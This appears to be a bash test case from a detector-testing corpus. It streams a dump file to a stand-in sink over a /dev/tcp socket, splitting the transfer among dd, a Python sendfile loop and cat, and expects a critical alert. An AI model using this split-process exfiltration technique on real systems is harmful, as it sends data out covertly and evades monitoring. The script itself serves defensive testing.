#!/bin/bash
# B-shared-offset: three programs take turns at one open dump and one connection.
# flow: both descriptors are inherited from a shell; dd reads a part, python transfers one by sendfile, cat writes the rest.
# tools: python3 dd bash
# expect: sent counted port critical
. "$CORPUS/lib.sh"
mkdump
sink tcp
exec 7<"$D" 5<>"/dev/tcp/$SINK/$PORT"
dd bs=64k count=2 <&7 >&5 2>/dev/null
python3 -c 'import os
left = 150000
while left:
    left -= os.sendfile(5, 7, None, left)'
cat <&7 >&5
exec 5>&- 7<&-
sunk "$(stat -c %s "$D")"
